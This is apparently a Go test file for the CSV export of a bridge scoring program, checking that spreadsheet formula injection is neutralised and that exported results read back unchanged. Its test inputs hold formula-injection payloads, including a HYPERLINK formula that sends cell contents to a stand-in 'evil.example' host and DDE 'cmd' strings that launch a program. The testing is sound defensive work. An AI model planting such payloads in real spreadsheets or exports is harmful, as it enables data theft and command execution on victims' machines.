package csvout_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/protokol-bridge/protokol/compute/bridge"
	"github.com/protokol-bridge/protokol/compute/event"
	"github.com/protokol-bridge/protokol/compute/pairs"
	"github.com/protokol-bridge/protokol/compute/teams"
	"github.com/protokol-bridge/protokol/formats/session"
	"github.com/protokol-bridge/protokol/internal/gen"
	"github.com/protokol-bridge/protokol/report"
	"github.com/protokol-bridge/protokol/report/csvout"
)

func TestNeutralise(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"formula", `=HYPERLINK("http://evil","click")`, `'=HYPERLINK("http://evil","click")`},
		{"plus command", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"minus formula", "-2+3", "'-2+3"},
		{"at", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"line feed", "\n=1", "'\n=1"},
		{"after spaces", "  =1+1", "'  =1+1"},
		{"a lone minus", "-", "'-"},
		{"negative number", "-100", "-100"},
		{"signed number", "+1", "+1"},
		{"decimal", "-2.5", "-2.5"},
		{"not a decimal", "-2.", "'-2."},
		{"name", "Иванов Юрий", "Иванов Юрий"},
		{"equals inside", "A=B", "A=B"},
		{"empty", "", ""},
		{"quote first", "'=x", "'=x"},
		{"pair id", "A/1", "A/1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := csvout.Neutralise(tt.in); got != tt.want {
				t.Errorf("Neutralise(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// FuzzNeutralise: the cell is kept or gets a ' in front, and what a
// spreadsheet sees first is never a formula character unless the cell is
// a number.
func FuzzNeutralise(f *testing.F) {
	for _, s := range []string{"=1", "-1", "+x", "@", " \t", "abc", "-1.5e3"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := csvout.Neutralise(s)
		if got != s && got != "'"+s {
			t.Fatalf("Neutralise(%q) = %q", s, got)
		}
		first := strings.TrimLeft(got, " ")
		if first != "" && strings.ContainsRune("=+-@\t\r\n", rune(first[0])) {
			n := strings.TrimLeft(first, "+-")
			if n == "" || strings.Trim(n, "0123456789.") != "" || strings.Count(n, ".") > 1 {
				t.Fatalf("Neutralise(%q) = %q starts a formula", s, got)
			}
		}
	})
}

func load(t testing.TB, files map[string][]byte) bridge.Session {
	t.Helper()
	var in []session.Input
	for _, name := range []string{"hands.pbn", "trav.csv", "names.csv", "travellers.csv", "event.pbn"} {
		if data, ok := files[name]; ok {
			in = append(in, session.Input{Name: name, Data: data})
		}
	}
	l, err := session.Load(in, session.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return l.Session
}

func bytesOf(t testing.TB, write func(io.Writer) error) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := write(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func score(t testing.TB, s bridge.Session, opt pairs.Options) *pairs.Result {
	t.Helper()
	res, err := pairs.Score(s, opt)
	if err != nil {
		t.Fatal(err)
	}
	return res
}

// sameResults compares two scorings: every line's pairs, kind, score and
// matchpoints or IMPs, and every ranking row.
func sameResults(t *testing.T, got, want *pairs.Result) {
	t.Helper()
	if len(got.Boards) != len(want.Boards) || len(got.Rankings) != len(want.Rankings) {
		t.Fatalf("%d boards %d rankings, want %d %d", len(got.Boards), len(got.Rankings), len(want.Boards), len(want.Rankings))
	}
	for i, b := range want.Boards {
		g := got.Boards[i]
		if len(g.Lines) != len(b.Lines) {
			t.Fatalf("board %d: %d lines, want %d", b.Number, len(g.Lines), len(b.Lines))
		}
		for j, l := range b.Lines {
			x := g.Lines[j]
			if x.NS() != l.NS() || x.EW() != l.EW() || x.Entry.Kind != l.Entry.Kind || x.ScoreNS != l.ScoreNS || x.FouledGroup() != l.FouledGroup() ||
				x.MPNS().Cmp(l.MPNS()) != 0 || x.MPEW().Cmp(l.MPEW()) != 0 || x.IMPNS().Cmp(l.IMPNS()) != 0 || x.IMPEW().Cmp(l.IMPEW()) != 0 {
				t.Errorf("board %d line %d: %+v\nwant %+v", b.Number, j, x, l)
			}
		}
	}
	for i, r := range want.Rankings {
		g := got.Rankings[i]
		for j, st := range r.Rows {
			x := g.Rows[j]
			if x.Pair != st.Pair || x.Rank != st.Rank || x.Tied != st.Tied || x.Total.Cmp(st.Total) != 0 || x.Penalty.Cmp(st.Penalty) != 0 {
				t.Errorf("%s %s row %d: %+v\nwant %+v", r.Section, r.Direction, j, x, st)
			}
		}
	}
}

// TestTravellersRoundTrip writes the travellers of generated sessions,
// every kind of decision included, and reads them back with the hand
// records through our CSV reader: the same results.
func TestTravellersRoundTrip(t *testing.T) {
	for _, c := range []struct {
		cfg  gen.Config
		opt  pairs.Options
		imps bool
	}{
		{gen.Config{Seed: 51, Tables: 8, Boards: 24, Movement: gen.Mitchell, MissingRate: 0.03, PassRate: 0.05}, pairs.Options{}, false},
		{gen.Config{Seed: 52, Tables: 7, Boards: 21, Movement: gen.Howell, Cyrillic: true}, pairs.Options{Method: pairs.Butler}, true},
		{gen.Config{Seed: 53, Sections: 2, Tables: 6, Boards: 18, Movement: gen.Mitchell}, pairs.Options{Method: pairs.CrossIMPs}, true},
	} {
		t.Run(fmt.Sprintf("%s seed %d", c.cfg.Movement, c.cfg.Seed), func(t *testing.T) {
			g := gen.Generate(c.cfg)
			adj := gen.AdjustWith(g, c.cfg.Seed, gen.AdjustConfig{IMP: c.imps})
			hands, names := bytesOf(t, g.WritePBN), bytesOf(t, g.WriteNamesCSV)
			want := score(t, load(t, map[string][]byte{"hands.pbn": hands, "names.csv": names, "trav.csv": []byte(adj.CSV())}), c.opt)
			var trav bytes.Buffer
			warnings, err := csvout.Write(&trav, io.Discard, model(t, &event.Result{Kind: event.Pairs, Pairs: want}), csvout.Options{})
			if err != nil || len(warnings) > 0 {
				t.Fatalf("%v %q", err, warnings)
			}
			got := score(t, load(t, map[string][]byte{"hands.pbn": hands, "names.csv": names, "travellers.csv": trav.Bytes()}), c.opt)
			sameResults(t, got, want)
			if len(got.Adjustments) != len(want.Adjustments) || len(want.Adjustments) == 0 {
				t.Errorf("%d decisions, want %d", len(got.Adjustments), len(want.Adjustments))
			}
			// The computed columns are the results' figures.
			recs, err := csv.NewReader(bytes.NewReader(trav.Bytes())).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			lines := 0
			for _, b := range want.Boards {
				lines += len(b.Lines)
			}
			if len(recs) != lines+1 {
				t.Errorf("%d rows, want %d", len(recs)-1, lines)
			}
			l := want.Boards[0].Lines[0]
			if c.imps {
				if recs[0][12] != "imp_ns" || recs[1][12] != l.IMPNS().Decimal(6) {
					t.Errorf("header %q, row %q", recs[0], recs[1])
				}
			} else if recs[0][14] != "pct_ns" || recs[1][14] != l.PctNS().Round(2) || recs[1][12] != l.MPNS().Decimal(6) {
				t.Errorf("header %q, row %q", recs[0], recs[1])
			}
		})
	}
}

// TestTeamsRoundTrip writes a team event's travellers and reads them back.
func TestTeamsRoundTrip(t *testing.T) {
	ev := gen.GenerateTeams(gen.TeamsConfig{Seed: 5, Teams: 7, Cyrillic: true})
	want, err := teams.Score(load(t, map[string][]byte{"event.pbn": bytesOf(t, ev.WritePBN)}), teams.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var trav, ranks bytes.Buffer
	if w, err := csvout.Write(&trav, &ranks, model(t, &event.Result{Kind: event.Teams, Teams: want}), csvout.Options{}); err != nil || len(w) > 0 {
		t.Fatal(err, w)
	}
	got, err := teams.Score(load(t, map[string][]byte{"travellers.csv": trav.Bytes()}), teams.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for i, st := range want.Standings {
		x := got.Standings[i]
		if x.Team != st.Team || x.Rank != st.Rank || x.VP != st.VP || x.IMPsFor.Cmp(st.IMPsFor) != 0 {
			t.Errorf("standing %d: %+v, want %+v", i, x, st)
		}
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(ranks.String(), "\uFEFF"))).ReadAll()
	if err != nil || len(recs) != len(want.Standings)+1 {
		t.Fatalf("%v, %d rows", err, len(recs))
	}
	if st := want.Standings[0]; recs[1][2] != st.Team || recs[1][0] != fmt.Sprint(st.Rank) {
		t.Errorf("first row %q", recs[1])
	}
}

// TestHostileNames: names and ids that a spreadsheet would run are
// neutralised in both files; numbers stay numbers.
func TestHostileNames(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1", "=1\n=2"}
	s := bridge.Session{Boards: []bridge.Board{bridge.NewBoard(1)}}
	c, _ := bridge.ParseContract("4H")
	for i, name := range hostile {
		id := fmt.Sprint(i + 1)
		if i == 0 {
			id = "=1+1"
		}
		s.Pairs = append(s.Pairs, bridge.Pair{Direction: bridge.DirectionNS, ID: id, Names: []string{name, "Ann"}}, bridge.Pair{Direction: bridge.DirectionEW, ID: id, Names: []string{name}})
		s.Entries = append(s.Entries, bridge.Entry{Board: 1, NS: id, EW: id, Kind: bridge.Played, Play: bridge.Play{Contract: c, Declarer: bridge.East, Tricks: 8 + i%3}})
	}
	res := score(t, s, pairs.Options{Movement: pairs.Mitchell})
	var trav, ranks bytes.Buffer
	if _, err := csvout.Write(&trav, &ranks, model(t, &event.Result{Kind: event.Pairs, Pairs: res}), csvout.Options{}); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(ranks.String(), "\uFEFF") || strings.HasPrefix(trav.String(), "\uFEFF") {
		t.Error("want a byte-order mark in rankings.csv only")
	}
	for name, data := range map[string]string{"travellers.csv": trav.String(), "rankings.csv": strings.TrimPrefix(ranks.String(), "\uFEFF")} {
		recs, err := csv.NewReader(strings.NewReader(data)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		sawScore := false
		for _, rec := range recs[1:] {
			for i, cell := range rec {
				if cell == "" {
					continue
				}
				if recs[0][i] == "score_ns" && strings.HasPrefix(cell, "-") {
					sawScore = true // a negative score stays a number
				}
				switch cell[0] {
				case '=', '+', '@', '\t', '\r', '\n':
					t.Errorf("%s: %s %q starts a formula", name, recs[0][i], cell)
				case '-':
					if strings.Trim(cell, "-0123456789.") != "" {
						t.Errorf("%s: %s %q starts a formula", name, recs[0][i], cell)
					}
				}
			}
		}
		if name == "travellers.csv" && !sawScore {
			t.Error("no negative score_ns")
		}
	}
	if !strings.Contains(ranks.String(), `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"") - Ann"`) || !strings.Contains(trav.String(), "'=1+1") {
		t.Errorf("rankings.csv:\n%s\ntravellers.csv:\n%s", ranks.String(), trav.String())
	}
	// Line ends inside a name are spaces (our CSV reader refuses control
	// characters).
	if strings.Contains(ranks.String(), "=1\n") {
		t.Error("a line end inside a cell")
	}
}

// TestTeamDecisions: a team event's decisions (a weighted score, an
// artificial score, penalties in IMPs and VPs) survive the travellers.
func TestTeamDecisions(t *testing.T) {
	want, err := teams.Score(gen.TeamDecisions(), teams.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var trav bytes.Buffer
	if w, err := csvout.Write(&trav, io.Discard, model(t, &event.Result{Kind: event.Teams, Teams: want}), csvout.Options{}); err != nil || len(w) > 0 {
		t.Fatal(err, w)
	}
	got, err := teams.Score(load(t, map[string][]byte{"travellers.csv": trav.Bytes()}), teams.Options{})
	if err != nil {
		t.Fatalf("%v\n%s", err, trav.String())
	}
	for i, m := range want.Matches {
		x := got.Matches[i]
		if x.IMPsHome.Cmp(m.IMPsHome) != 0 || x.IMPsAway.Cmp(m.IMPsAway) != 0 || x.VPHome != m.VPHome || x.VPAway != m.VPAway {
			t.Errorf("%s: %s–%s %d–%d, want %s–%s %d–%d\n%s", m.MatchKey, x.IMPsHome, x.IMPsAway, x.VPHome, x.VPAway,
				m.IMPsHome, m.IMPsAway, m.VPHome, m.VPAway, trav.String())
		}
	}
}

// TestNotScoredRoundTrip: a table not scored is written with adjust
// "not scored: " and its reason, and read back as the same table not
// scored, for the same reason: the same results.
func TestNotScoredRoundTrip(t *testing.T) {
	g := gen.Generate(gen.Config{Seed: 54, Tables: 6, Boards: 12, Movement: gen.Mitchell})
	hands := bytesOf(t, g.WritePBN)
	s := load(t, map[string][]byte{"hands.pbn": hands, "trav.csv": bytesOf(t, g.WriteTravellersCSV)})
	reasons := map[int]string{}
	for i := 3; i < len(s.Entries); i += 11 {
		reasons[i] = fmt.Sprintf("the play stops after %d tricks, and there is no \"claim\"", i%13)
		s.Entries[i].SetUnscored(reasons[i])
	}
	want := score(t, s, pairs.Options{})
	var trav bytes.Buffer
	if w, err := csvout.Write(&trav, io.Discard, model(t, &event.Result{Kind: event.Pairs, Pairs: want}), csvout.Options{}); err != nil || len(w) > 0 {
		t.Fatal(err, w)
	}
	if !strings.Contains(trav.String(), `,"not scored: the play stops after 3 tricks, and there is no ""claim""",`) {
		t.Errorf("travellers.csv has no table not scored:\n%s", trav.String())
	}
	back := load(t, map[string][]byte{"hands.pbn": hands, "travellers.csv": trav.Bytes()})
	got := score(t, back, pairs.Options{})
	sameResults(t, got, want)
	n := 0
	for _, e := range back.Entries {
		if e.Kind == bridge.NotScored {
			n++
			if e.Adjust != nil || !strings.HasPrefix(e.Unscored(), "the play stops after ") {
				t.Errorf("read back: %q, adjust %+v", e.Unscored(), e.Adjust)
			}
		}
	}
	if n != len(reasons) {
		t.Errorf("%d tables not scored read back, want %d", n, len(reasons))
	}
}

// model is the model of a scored event, which Write writes.
func model(t testing.TB, res *event.Result) *report.Event {
	t.Helper()
	ev, err := report.NewEvent(res)
	if err != nil {
		t.Fatal(err)
	}
	return ev
}
